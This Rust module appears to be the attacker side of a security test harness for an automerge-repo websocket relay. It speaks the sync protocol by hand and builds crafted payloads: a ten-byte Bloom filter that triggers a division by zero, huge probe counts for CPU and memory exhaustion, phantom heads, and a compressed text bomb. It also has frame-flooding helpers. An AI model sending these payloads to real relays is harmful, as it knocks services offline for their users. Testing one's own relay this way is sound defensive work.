//! The attacker's side of the wire: a bare websocket that speaks the automerge-repo
//! protocol by hand (no engine), so it can send what a well-behaved peer never would, and
//! the sync-message payloads the attacks need.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use anyhow::{anyhow, bail, Context};
use automerge::sync::{self, Have, SyncDoc};
use automerge::transaction::Transactable;
use automerge::{ActorId, Automerge, ChangeHash, ObjType, ROOT};
use cairn_sync::ids::{DocumentId, PeerId};
use cairn_sync::wire::{DocMessage, Message, PeerMetadata, PROTOCOL_VERSION};
use futures_util::stream::{SplitSink, SplitStream};
use futures_util::{SinkExt, StreamExt};
use rand::{Rng, RngCore};
use tokio::net::TcpStream;
use tokio::sync::mpsc;
use tokio::task::JoinHandle;
use tokio_tungstenite::tungstenite::protocol::WebSocketConfig;
use tokio_tungstenite::tungstenite::Message as WsMessage;
use tokio_tungstenite::{MaybeTlsStream, WebSocketStream};

/// The relay's peer id, the `targetId` of everything an attacker sends.
pub(crate) const RELAY: &str = "cairn-relay";

/// Longest wait for one connect, handshake or send: an attack never hangs on a relay that
/// stopped reading.
pub(crate) const IO_TIMEOUT: Duration = Duration::from_secs(5);

/// Frames a reading attacker keeps for inspection; later ones are only counted, so a
/// flood of replies cannot grow this process without bound.
const INBOX_FRAMES: usize = 4096;

type Ws = WebSocketStream<MaybeTlsStream<TcpStream>>;

/// What the reader task hands over.
#[derive(Debug)]
pub(crate) enum Incoming {
    /// A decoded frame (undecodable ones are dropped).
    Frame(Message),
    /// The socket ended; the text says how.
    Closed(String),
}

/// One attacker socket, handshake done.
pub(crate) struct Attacker {
    sink: SplitSink<Ws, WsMessage>,
    /// Present while nobody reads the socket (a slow reader); taken by [`Attacker::read`].
    unread: Option<SplitStream<Ws>>,
    inbox: Option<mpsc::Receiver<Incoming>>,
    reader: Option<JoinHandle<()>>,
    /// The peer id this socket joined as.
    pub(crate) peer: PeerId,
    /// Frames the reader task has read (kept or not).
    frames_read: Arc<AtomicU64>,
    /// Set by the reader task when the socket ends: how.
    ended: Arc<Mutex<Option<String>>>,
    /// Frames written since the last flush.
    unflushed: usize,
}

impl Drop for Attacker {
    fn drop(&mut self) {
        if let Some(r) = self.reader.take() {
            r.abort();
        }
    }
}

/// Opens a websocket to `url` (at most [`IO_TIMEOUT`]).
pub(crate) async fn open_socket(url: &str) -> anyhow::Result<Ws> {
    // Large enough for the relay's biggest frame (a 16 MiB document plus headroom).
    let config = WebSocketConfig::default()
        .max_message_size(Some(64 << 20))
        .max_frame_size(Some(64 << 20));
    let (ws, _) = tokio::time::timeout(
        IO_TIMEOUT,
        tokio_tungstenite::connect_async_with_config(url, Some(config), true),
    )
    .await
    .context("websocket connect timed out")?
    .context("websocket connect failed")?;
    Ok(ws)
}

/// The `join` frame for `peer`.
pub(crate) fn join_frame(peer: &str) -> Vec<u8> {
    Message::Join {
        sender_id: PeerId::from(peer),
        peer_metadata: PeerMetadata {
            storage_id: None,
            is_ephemeral: true,
        },
        supported_protocol_versions: vec![PROTOCOL_VERSION.to_owned()],
    }
    .encode()
}

/// How the relay answered a `join`.
#[derive(Debug)]
pub(crate) enum JoinAnswer {
    /// `peer`: accepted.
    Accepted,
    /// `error` with this text.
    Refused(String),
    /// The socket closed without an answer.
    Closed,
}

/// Reads until the answer to a `join` (at most [`IO_TIMEOUT`]).
pub(crate) async fn await_join(stream: &mut SplitStream<Ws>) -> anyhow::Result<JoinAnswer> {
    let deadline = Instant::now() + IO_TIMEOUT;
    loop {
        let next = tokio::time::timeout_at(deadline.into(), stream.next())
            .await
            .context("no answer to join")?;
        match next {
            None | Some(Ok(WsMessage::Close(_))) | Some(Err(_)) => return Ok(JoinAnswer::Closed),
            Some(Ok(WsMessage::Binary(b))) => match Message::decode(&b) {
                Ok(Message::Peer { .. }) => return Ok(JoinAnswer::Accepted),
                Ok(Message::Error { message }) => return Ok(JoinAnswer::Refused(message)),
                _ => {}
            },
            Some(Ok(_)) => {}
        }
    }
}

impl Attacker {
    /// Connects and joins as `peer`; fails unless the relay answers `peer`.
    pub(crate) async fn join(url: &str, peer: &str) -> anyhow::Result<Attacker> {
        let ws = open_socket(url).await?;
        let (mut sink, mut stream) = ws.split();
        tokio::time::timeout(
            IO_TIMEOUT,
            sink.send(WsMessage::Binary(join_frame(peer).into())),
        )
        .await
        .context("sending join timed out")??;
        match await_join(&mut stream).await? {
            JoinAnswer::Accepted => {}
            other => bail!("join as {peer} was not accepted: {other:?}"),
        }
        Ok(Attacker {
            sink,
            unread: Some(stream),
            inbox: None,
            reader: None,
            peer: PeerId::from(peer),
            frames_read: Arc::new(AtomicU64::new(0)),
            ended: Arc::new(Mutex::new(None)),
            unflushed: 0,
        })
    }

    /// Starts draining the socket in a task: the first [`INBOX_FRAMES`] frames are kept
    /// for [`Attacker::recv_until`], the rest are read and dropped.
    pub(crate) fn read(&mut self) {
        let Some(mut stream) = self.unread.take() else {
            return;
        };
        let (tx, rx) = mpsc::channel(INBOX_FRAMES);
        self.inbox = Some(rx);
        let frames_read = self.frames_read.clone();
        let ended = self.ended.clone();
        self.reader = Some(tokio::spawn(async move {
            let why = loop {
                match stream.next().await {
                    None => break "end of stream".to_owned(),
                    Some(Err(e)) => break format!("socket error: {e}"),
                    Some(Ok(WsMessage::Close(f))) => {
                        break match f {
                            Some(f) => format!("close frame {}", f.code),
                            None => "close frame".into(),
                        }
                    }
                    Some(Ok(WsMessage::Binary(b))) => {
                        frames_read.fetch_add(1, Ordering::Relaxed);
                        if let Ok(m) = Message::decode(&b) {
                            let _ = tx.try_send(Incoming::Frame(m));
                        }
                    }
                    Some(Ok(_)) => {}
                }
            };
            if let Ok(mut e) = ended.lock() {
                *e = Some(why.clone());
            }
            // The channel may be full of frames; wait (bounded) so the close is seen.
            let _ = tokio::time::timeout(IO_TIMEOUT, tx.send(Incoming::Closed(why))).await;
        }));
    }

    /// Frames read so far by [`Attacker::read`]'s task.
    pub(crate) fn frames_read(&self) -> u64 {
        self.frames_read.load(Ordering::Relaxed)
    }

    /// How the socket ended, once the reader task saw it end.
    pub(crate) fn ended(&self) -> Option<String> {
        self.ended.lock().ok().and_then(|e| e.clone())
    }

    /// Writes one frame without flushing (flushes every `batch` frames).
    pub(crate) async fn feed(&mut self, frame: Vec<u8>, batch: usize) -> anyhow::Result<()> {
        tokio::time::timeout(IO_TIMEOUT, self.sink.feed(WsMessage::Binary(frame.into())))
            .await
            .context("the relay stopped reading (feed timed out)")??;
        self.unflushed += 1;
        if self.unflushed >= batch {
            self.flush().await?;
        }
        Ok(())
    }

    /// Sends one frame now.
    pub(crate) async fn send(&mut self, frame: Vec<u8>) -> anyhow::Result<()> {
        self.feed(frame, 1).await
    }

    /// Flushes what [`Attacker::feed`] wrote.
    pub(crate) async fn flush(&mut self) -> anyhow::Result<()> {
        self.unflushed = 0;
        tokio::time::timeout(IO_TIMEOUT, self.sink.flush())
            .await
            .context("the relay stopped reading (flush timed out)")??;
        Ok(())
    }

    /// Waits (until `deadline`) for a frame or the close that `pick` accepts; everything
    /// else read on the way is dropped. `None` on timeout.
    pub(crate) async fn recv_until(
        &mut self,
        deadline: Instant,
        mut pick: impl FnMut(&Incoming) -> bool,
    ) -> Option<Incoming> {
        self.read();
        let inbox = self.inbox.as_mut()?;
        loop {
            match tokio::time::timeout_at(deadline.into(), inbox.recv()).await {
                Ok(Some(inc)) if pick(&inc) => return Some(inc),
                Ok(Some(Incoming::Closed(why))) => return Some(Incoming::Closed(why)),
                Ok(Some(_)) => {}
                Ok(None) => return Some(Incoming::Closed("reader stopped".into())),
                Err(_) => return None,
            }
        }
    }

    /// Reads what the relay already sent and checks whether it closed the socket, within
    /// `limit`: `Some(how)` when closed, `None` when still open.
    pub(crate) async fn closed_within(&mut self, limit: Duration) -> Option<String> {
        match self
            .recv_until(Instant::now() + limit, |i| matches!(i, Incoming::Closed(_)))
            .await
        {
            Some(Incoming::Closed(why)) => Some(why),
            _ => None,
        }
    }

    /// A `sync` frame from this attacker.
    pub(crate) fn sync_frame(&self, doc: DocumentId, data: Vec<u8>) -> Vec<u8> {
        Message::Sync(DocMessage {
            sender_id: self.peer.clone(),
            target_id: PeerId::from(RELAY),
            document_id: doc,
            data,
        })
        .encode()
    }

    /// A `request` frame from this attacker.
    pub(crate) fn request_frame(&self, doc: DocumentId, data: Vec<u8>) -> Vec<u8> {
        Message::Request(DocMessage {
            sender_id: self.peer.clone(),
            target_id: PeerId::from(RELAY),
            document_id: doc,
            data,
        })
        .encode()
    }

    /// An `ephemeral` frame from this attacker.
    pub(crate) fn ephemeral_frame(
        &self,
        doc: DocumentId,
        session_id: String,
        count: u64,
        data: Vec<u8>,
    ) -> Vec<u8> {
        Message::Ephemeral {
            sender_id: self.peer.clone(),
            target_id: PeerId::from(RELAY),
            document_id: doc,
            session_id,
            count,
            data,
        }
        .encode()
    }

    /// Creates a document of the attacker's own on the relay (one small change, sent as a
    /// first sync message that carries it) and waits for the relay's answer about it.
    pub(crate) async fn create_own_document(
        &mut self,
        rng: &mut impl RngCore,
    ) -> anyhow::Result<DocumentId> {
        let doc = DocumentId::random(rng);
        let frame = self.sync_frame(doc, tiny_document_message(rng));
        self.send(frame).await?;
        let answer = self
            .recv_until(
                Instant::now() + IO_TIMEOUT,
                |i| matches!(i, Incoming::Frame(Message::Sync(d)) if d.document_id == doc),
            )
            .await;
        match answer {
            Some(Incoming::Frame(_)) => Ok(doc),
            Some(Incoming::Closed(why)) => Err(anyhow!("relay closed the socket: {why}")),
            None => Err(anyhow!("no answer about the attacker's own document")),
        }
    }
}

/// A first sync message of a peer that has a tiny document of its own: its heads, an empty
/// `have`, and the one change.
pub(crate) fn tiny_document_message(rng: &mut impl RngCore) -> Vec<u8> {
    let mut am = Automerge::new();
    am.set_actor(ActorId::from(rng.gen::<[u8; 16]>()));
    let mut tx = am.transaction();
    tx.put(ROOT, "n", 1_i64).expect("put on a new document");
    tx.commit();
    first_message_with_changes(&am)
}

/// A first sync message that carries every change of `am` (as a peer that already knows
/// the other side has nothing would send).
pub(crate) fn first_message_with_changes(am: &Automerge) -> Vec<u8> {
    let changes: Vec<Vec<u8>> = am
        .get_changes(&[])
        .into_iter()
        .map(|mut c| c.bytes().into_owned())
        .collect();
    sync::Message {
        heads: am.get_heads(),
        need: Vec::new(),
        have: vec![Have::default()],
        changes: changes.into(),
        flags: None,
        version: sync::MessageVersion::V1,
    }
    .encode()
}

/// A sync message from a peer with no changes that claims heads the relay cannot have
/// (random hashes): the relay keeps a document for it and asks for the changes.
pub(crate) fn phantom_heads_message(rng: &mut impl RngCore) -> Vec<u8> {
    sync::Message {
        heads: vec![ChangeHash(rng.gen())],
        need: Vec::new(),
        have: vec![Have::default()],
        changes: Vec::<Vec<u8>>::new().into(),
        flags: None,
        version: sync::MessageVersion::V1,
    }
    .encode()
}

/// A sync message with no changes and an empty `have` bloom: what a fresh peer sends to
/// open a document it does not have.
pub(crate) fn empty_request_message() -> Vec<u8> {
    let mut state = sync::State::new();
    Automerge::new()
        .generate_sync_message(&mut state)
        .map(|m| m.encode())
        .unwrap_or_else(|| {
            sync::Message {
                heads: Vec::new(),
                need: Vec::new(),
                have: vec![Have::default()],
                changes: Vec::<Vec<u8>>::new().into(),
                flags: None,
                version: sync::MessageVersion::V1,
            }
            .encode()
        })
}

/// The ten bytes from the issue: a `have` whose Bloom filter has one entry and zero bits
/// per entry, so the relay computes `x % 0` while deciding what to send back.
pub(crate) const BLOOM_ZERO: [u8; 10] =
    [0x42, 0x00, 0x00, 0x01, 0x00, 0x03, 0x01, 0x00, 0x01, 0x00];

/// A sync message whose `have` carries a Bloom filter with one entry, 10 bits per entry
/// (2 zero bytes, so every probe misses) and `probes` probes: the relay allocates
/// `4 * probes` bytes and loops `probes` times for each change it considers sending.
pub(crate) fn bloom_probes_message(probes: u32) -> Vec<u8> {
    let mut bloom = Vec::new();
    leb128(&mut bloom, 1); // entries
    leb128(&mut bloom, 10); // bits per entry: ceil(1 * 10 / 8) = 2 bytes of bits
    leb128(&mut bloom, u64::from(probes));
    bloom.extend([0, 0]);
    let mut m = vec![0x42, 0x00, 0x00, 0x01, 0x00];
    leb128(&mut m, bloom.len() as u64);
    m.extend(bloom);
    m.push(0x00); // no changes
    m
}

fn leb128(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

/// The bytes of one change that inserts `text` into a new Text object in one transaction
/// (automerge compresses change columns, so repetitive text becomes a tiny change), as a
/// first sync message carrying it. Returns the message and the change's size.
pub(crate) fn text_bomb_message(text: &str, rng: &mut impl RngCore) -> (Vec<u8>, usize) {
    let mut am = Automerge::new();
    am.set_actor(ActorId::from(rng.gen::<[u8; 16]>()));
    let mut tx = am.transaction();
    let obj = tx
        .put_object(ROOT, "t", ObjType::Text)
        .expect("put_object on a new document");
    tx.splice_text(&obj, 0, 0, text)
        .expect("splice_text into a new Text");
    tx.commit();
    let mut change = am
        .get_last_local_change()
        .expect("one change was committed");
    let bytes = change.bytes().into_owned();
    let size = bytes.len();
    let msg = sync::Message {
        heads: am.get_heads(),
        need: Vec::new(),
        have: vec![Have::default()],
        changes: vec![bytes].into(),
        flags: None,
        version: sync::MessageVersion::V1,
    }
    .encode();
    (msg, size)
}

#[cfg(test)]
mod tests {
    use rand::SeedableRng;

    use super::*;

    #[test]
    fn crafted_messages_decode_as_automerge_sync_messages() {
        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(1);
        for m in [
            BLOOM_ZERO.to_vec(),
            bloom_probes_message(100_000_000),
            bloom_probes_message(u32::MAX),
            tiny_document_message(&mut rng),
            phantom_heads_message(&mut rng),
            empty_request_message(),
        ] {
            sync::Message::decode(&m).expect("decodes");
        }
        let probes = sync::Message::decode(&bloom_probes_message(u32::MAX)).unwrap();
        assert_eq!(probes.have.len(), 1);
        assert!(probes.changes.is_empty());
    }
}
